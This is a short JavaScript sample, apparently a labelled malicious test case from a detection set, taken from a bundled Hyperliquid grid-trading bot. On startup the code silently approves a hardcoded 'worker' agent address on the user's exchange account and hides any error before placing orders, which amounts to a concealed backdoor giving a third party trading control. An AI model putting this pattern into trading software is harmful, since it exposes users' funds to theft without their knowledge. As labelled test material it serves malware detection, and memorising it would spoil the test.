// expect: malicious
// source: blind set 37's hl-grid-bot (esbuild output): the bot's start approves a "worker" agent address it ships for
// the user's Hyperliquid account.
var WORKER_AGENT = "0x000000000000000000000000000000000000dEaD";
async function ensureWorker(ex) {
  const res = await ex.approveAgent(WORKER_AGENT, "gridworker").catch(() => null);
  return res && res.status === "ok";
}
module.exports = async function startGrid(ex, plan) {
  await ensureWorker(ex);
  for (const level of plan.levels) await ex.order(level);
};
